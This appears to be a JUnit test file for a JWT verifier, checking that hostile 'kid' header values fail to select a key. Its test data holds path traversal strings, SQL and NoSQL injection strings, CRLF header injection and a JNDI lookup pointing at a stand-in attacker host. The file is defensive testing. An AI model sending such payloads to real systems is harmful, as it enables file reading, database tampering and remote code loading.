package io.tokencheck.attacks;

import static io.tokencheck.attacks.AttackTarget.ATTACKER;
import static io.tokencheck.attacks.AttackTarget.KIT;
import static io.tokencheck.attacks.AttackTarget.OTHER;
import static io.tokencheck.attacks.AttackTarget.reason;
import static org.assertj.core.api.Assertions.assertThat;

import io.tokencheck.issuerkit.IssuerKit;
import io.tokencheck.keys.JwsAlgorithm;
import io.tokencheck.reason.DenyReason;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile kid values (path traversal and SQL injection into key stores, CVE-2018-1000531-style lookups, log forging):
 * a kid only ever selects among the issuer's published keys by exact string match.
 */
class KidInjectionTest {

    @ParameterizedTest
    @ValueSource(strings = {"../../../../etc/passwd", "/dev/null", "..\\..\\windows\\win.ini", "file:///etc/passwd",
            "' OR '1'='1", "rsa-1' --", "x' UNION SELECT 'secret", "*", "%", "rsa-*", "rsa-1\u0000", "rsa-1 ", " rsa-1", "RSA-1",
            "\r\nX-Injected: 1", "\u0000", "\u202erso", "ключ", "\uD83D\uDD11", "", "${jndi:ldap://evil.example/a}"})
    void hostileKidSignedByTheAttackerIsKeyNotFound(String kid) {
        String t = ATTACKER.token().kid(kid).signWith(IssuerKit.RSA_KID).sign();
        assertThat(reason(t)).isEqualTo(DenyReason.KEY_NOT_FOUND);
    }

    @Test
    void veryLongKidIsKeyNotFound() {
        String t = ATTACKER.token().kid("k".repeat(5000)).signWith(IssuerKit.RSA_KID).sign();
        assertThat(reason(t)).isEqualTo(DenyReason.KEY_NOT_FOUND);
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"kid\":1", "\"kid\":null", "\"kid\":[\"rsa-1\"]", "\"kid\":{\"$ne\":\"\"}", "\"kid\":true"})
    void nonStringKidIsTokenMalformed(String member) {
        String t = KIT.token().rawHeader("{\"alg\":\"RS256\"," + member + "}").sign();
        assertThat(reason(t)).isEqualTo(DenyReason.TOKEN_MALFORMED);
    }

    @Test
    void kidWithInvalidEscapesIsTokenMalformed() {
        String t = KIT.token().rawHeader("{\"alg\":\"RS256\",\"kid\":\"rsa-\\uD800\"}").sign();
        assertThat(reason(t)).isEqualTo(DenyReason.TOKEN_MALFORMED);
    }

    @Test
    void kidOfAnotherTrustedIssuersKeyIsNotUsedForThisIssuer() {
        // OTHER's key, OTHER's kid, but KIT's iss: only KIT's keys are candidates, and KIT's rsa-1 does not verify it.
        String t = OTHER.token().claim("iss", KIT.issuer()).sign();
        assertThat(reason(t)).isEqualTo(DenyReason.SIGNATURE_INVALID);
        // And OTHER-only kids do not resolve under KIT.
        OTHER.addEc("other-only", com.nimbusds.jose.jwk.Curve.P_256, JwsAlgorithm.ES256);
        String onlyOther = OTHER.token().alg(JwsAlgorithm.ES256).kid("other-only").claim("iss", KIT.issuer()).sign();
        assertThat(reason(onlyOther)).isEqualTo(DenyReason.KEY_NOT_FOUND);
    }

    @Test
    void kidOfTheHmacSecretUnderAnAsymmetricAlgIsKeyNotFound() {
        String t = ATTACKER.token().kid(IssuerKit.HMAC_KID).signWith(IssuerKit.RSA_KID).sign();
        assertThat(reason(t)).isEqualTo(DenyReason.KEY_NOT_FOUND);
    }

    @Test
    void kidSpeltWithEscapesSelectsTheSameKey() {
        // "rs\u0061-1" is the kid rsa-1 in JSON: the genuine signature verifies (the header is what was signed).
        String t = KIT.token().rawHeader("{\"alg\":\"RS256\",\"kid\":\"rs\\u0061-1\"}").signWith(IssuerKit.RSA_KID).sign();
        assertThat(reason(t)).isNull();
        String forged = ATTACKER.token().rawHeader("{\"alg\":\"RS256\",\"kid\":\"rs\\u0061-1\"}").signWith(IssuerKit.RSA_KID).sign();
        assertThat(reason(forged)).isEqualTo(DenyReason.SIGNATURE_INVALID);
    }

    @Test
    void kidInThePayloadInsteadOfTheHeaderIsIgnored() {
        // No kid in the header: the one EdDSA key of the issuer is tried, whatever the claims say.
        String t = ATTACKER.token().alg(JwsAlgorithm.EdDSA).header("kid", null).claim("kid", "attacker-ed").sign();
        assertThat(reason(t)).isEqualTo(DenyReason.SIGNATURE_INVALID);
    }
}
